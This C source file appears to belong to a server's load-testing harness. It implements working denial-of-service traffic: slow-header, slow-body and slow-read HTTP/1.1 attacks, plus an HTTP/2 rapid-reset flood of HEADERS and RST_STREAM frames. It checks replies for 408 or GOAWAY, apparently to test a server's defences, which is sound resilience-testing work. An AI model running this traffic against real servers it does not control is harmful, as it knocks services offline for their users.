#include "bench/load/attack_talk.h"

#include "bench/load/h2_frame.h"

#define STREAM_MAX 0x7fffffffu
#define INPUT_BYTES (H2_FRAME_HEAD_BYTES + H2_FRAME_PAYLOAD_MAX + 65536)
#define CANCEL 8 /* the error code of the resets */
#define FILLER 'a'

void attack_talk_init(struct attack_talk *t, enum attack_kind kind)
{
    *t = (struct attack_talk){ .kind = kind, .next_stream = 1 };
    buf_init(&t->input, INPUT_BYTES);
}

void attack_talk_fini(struct attack_talk *t)
{
    buf_fini(&t->input);
}

/* --- HTTP/1.1, slowly ------------------------------------------------------------------------- */

/* The head's next byte; its last field never ends. */
static void write_head_byte(struct attack_talk *t, struct slice host, struct buf *out)
{
    const struct slice parts[] = { SLICE("GET / HTTP/1.1\r\nHost: "), host, SLICE("\r\nX-Slow: ") };
    uint64_t at = t->sent;
    for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
        if (at < parts[i].len) {
            buf_append_char(out, parts[i].data[at]);
            return;
        }
        at -= parts[i].len;
    }
    buf_append_char(out, FILLER);
}

static void write_body_piece(struct attack_talk *t, struct slice host, struct buf *out)
{
    if (t->sent > 0) {
        buf_append_char(out, FILLER);
        return;
    }
    buf_printf(out,
               "POST /upload HTTP/1.1\r\nHost: %.*s\r\nContent-Length: 10485760\r\n"
               "Content-Type: application/octet-stream\r\n\r\n",
               SLICE_ARG(host));
}

static void write_wish(struct attack_talk *t, struct slice host, struct buf *out)
{
    if (t->sent == 0)
        buf_printf(out, "GET /download?bytes=20971520 HTTP/1.1\r\nHost: %.*s\r\n\r\n",
                   SLICE_ARG(host));
}

/* --- HTTP/2, in a hurry ----------------------------------------------------------------------- */

/* Of RFC 7541's static table, but for the host. */
static void write_header_block(struct slice host, struct buf *out)
{
    static const char get_https_root[] = "\x82\x87\x84";
    uint8_t authority[2] = { 0x01, (uint8_t)MIN(host.len, 126) };
    buf_append_str(out, get_https_root);
    buf_append(out, authority, sizeof(authority));
    buf_append(out, host.data, authority[1]);
}

static uint32_t write_streams(struct attack_talk *t, struct slice host, struct buf *out)
{
    struct buf block;
    uint32_t count = 0;
    buf_init(&block, 256);
    write_header_block(host, &block);
    while (count < ATTACK_TALK_STREAMS && t->next_stream < STREAM_MAX) {
        h2_frame_write(out, H2_HEADERS, H2_FLAG_END_HEADERS | H2_FLAG_END_STREAM, t->next_stream,
                       buf_slice(&block));
        h2_frame_write_u32(out, H2_RST_STREAM, t->next_stream, CANCEL);
        t->next_stream += 2;
        count++;
    }
    buf_fini(&block);
    return count;
}

static uint32_t write_flood(struct attack_talk *t, struct slice host, struct buf *out)
{
    if (t->sent == 0) {
        buf_append_str(out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        h2_frame_write(out, H2_SETTINGS, 0, 0, (struct slice){ 0 });
    }
    if (t->owes_settings)
        h2_frame_write(out, H2_SETTINGS, H2_FLAG_ACK, 0, (struct slice){ 0 });
    t->owes_settings = false;
    return write_streams(t, host, out);
}

uint32_t attack_talk_write(struct attack_talk *t, struct slice host, struct buf *out)
{
    uint32_t streams = 0;
    switch (t->kind) {
    case ATTACK_SLOW_HEAD:
        write_head_byte(t, host, out);
        break;
    case ATTACK_SLOW_BODY:
        write_body_piece(t, host, out);
        break;
    case ATTACK_SLOW_READ:
        write_wish(t, host, out);
        break;
    default:
        streams = write_flood(t, host, out);
    }
    t->sent++;
    return streams;
}

/* --- what it is told -------------------------------------------------------------------------- */

static enum attack_outcome read_status(struct attack_talk *t, struct slice bytes)
{
    size_t more = MIN(bytes.len, sizeof(t->status) - t->status_len);
    memcpy(t->status + t->status_len, bytes.data, more);
    t->status_len += (uint32_t)more;
    if (t->status_len < sizeof(t->status))
        return ATTACK_TALK_GOES_ON;
    struct slice status = slice_of(t->status + sizeof(t->status) - 3, 3);
    return slice_eq(status, SLICE("408")) ? ATTACK_STATUS_408 : ATTACK_STATUS_OTHER;
}

/* What comes for streams that are reset is not looked at. */
static enum attack_outcome read_frames(struct attack_talk *t, struct slice *bytes)
{
    struct h2_frame frame;
    while (h2_frame_next(bytes, &frame) == H2_FRAME_READY) {
        if (frame.type == H2_GOAWAY)
            return ATTACK_GOAWAY;
        if (frame.type == H2_SETTINGS && !(frame.flags & H2_FLAG_ACK))
            t->owes_settings = true;
    }
    return ATTACK_TALK_GOES_ON;
}

enum attack_outcome attack_talk_read(struct attack_talk *t, struct slice bytes)
{
    if (t->kind == ATTACK_SLOW_READ) /* this is what it asked for */
        return ATTACK_TALK_GOES_ON;
    if (t->kind != ATTACK_RESET_FLOOD)
        return read_status(t, bytes);
    buf_append_slice(&t->input, bytes);
    struct slice all = buf_slice(&t->input);
    enum attack_outcome outcome = read_frames(t, &all);
    buf_consume(&t->input, t->input.len - all.len);
    return outcome;
}
